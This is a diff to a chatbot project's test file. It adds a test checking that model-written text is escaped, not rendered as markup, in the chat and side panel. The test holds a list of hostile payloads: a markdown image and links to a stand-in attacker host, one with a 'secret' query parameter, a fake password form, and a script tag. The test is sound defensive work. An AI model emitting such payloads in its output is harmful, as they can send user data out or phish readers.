@@ -9,7 +9,7 @@ from chatbot import render
 from chatbot.sessions import SessionStore, UserSession
 from corgi.types import (AnswerReady, Box, CacheStats, Evidence, EvidenceReady, KeyEvidence, Phase,
                          PhaseFinished, PhaseStarted, ReasoningResult, Step, StepKind, StepsParsed,
-                         SynthesisResult, TextDelta, TurnFinished, TurnResult)
+                         StepStreamed, SynthesisResult, TextDelta, TurnFinished, TurnResult)
 
 OBJECT_BOX = Box(0.1, 0.2, 0.5, 0.8)
 TEXT_BOX = Box(0.6, 0.1, 0.9, 0.3)
@@ -361,3 +361,35 @@ def test_two_images_side_by_side_and_a_click_picks_the_box_under_it():
     r, g, b = picture.getpixel((x, y))
     assert b > r + 20, (r, g, b)
     assert picture.getpixel((first.x + int(0.3 * first.width), int(0.3 * first.height))) == (255, 255, 255)
+
+
+def test_model_text_is_shown_as_text_never_as_markup():
+    """Text a model writes (or reads out of an image) could carry a remote image that loads
+    with no click, a fake login form or a link: every piece of it that reaches the chat or the
+    side panel is escaped. Checked on a whole turn's messages, markdown-rendered as Gradio does."""
+    from markdown_it import MarkdownIt       # CommonMark with raw HTML on: the worst case for us
+    md = MarkdownIt("commonmark", {"html": True})
+    payloads = ["![x](http://evil.example/x?secret=1)", "<img src=http://evil.example/y>",
+                "<form><input type=password></form>", "<a href=http://evil.example>login</a>",
+                "<script>alert(1)</script>", "[login](http://evil.example/z)", "<http://evil.example/w>"]
+    hostile = " ".join(payloads)
+    steps = [Step(1, hostile, StepKind.OBJECT, Box(0.1, 0.1, 0.5, 0.5)), Step(2, hostile, StepKind.REASONING)]
+    view = render.TurnView(hostile, 1, max_regions=4)
+    view.apply(PhaseStarted(Phase.REASONING, "p"))
+    view.apply(StepStreamed(steps[0]))
+    view.apply(StepsParsed(ReasoningResult(hostile, steps, ok=True)))
+    view.apply(PhaseFinished(Phase.REASONING, 0.1))
+    view.apply(PhaseStarted(Phase.EVIDENCE, "p"))
+    view.apply(EvidenceReady(Evidence(1, steps[0].bbox, StepKind.OBJECT, hostile), region=0, total=1))
+    view.apply(PhaseFinished(Phase.EVIDENCE, 0.1))
+    view.apply(AnswerReady(SynthesisResult(hostile, hostile, [KeyEvidence(hostile, steps[0].bbox)], ok=True)))
+    view.apply(PhaseStarted(Phase.SYNTHESIS, "p"))
+    view.apply(PhaseFinished(Phase.SYNTHESIS, 0.1))
+    texts = [m["content"] for m in view.messages()]
+    texts.append(render.answer_markdown(SynthesisResult(hostile + "\n" + hostile, "", [], ok=False)))
+    texts.append(render.selected_markdown(steps[0], [Evidence(1, steps[0].bbox, StepKind.OBJECT, hostile)]))
+    for text in texts:
+        html_out = md.render(text)
+        for tag in ("<img", "<form", "<input", "<a ", "<script"):
+            assert tag not in html_out, (tag, text)
+    assert any("evil.example" in t for t in texts)          # shown, as text
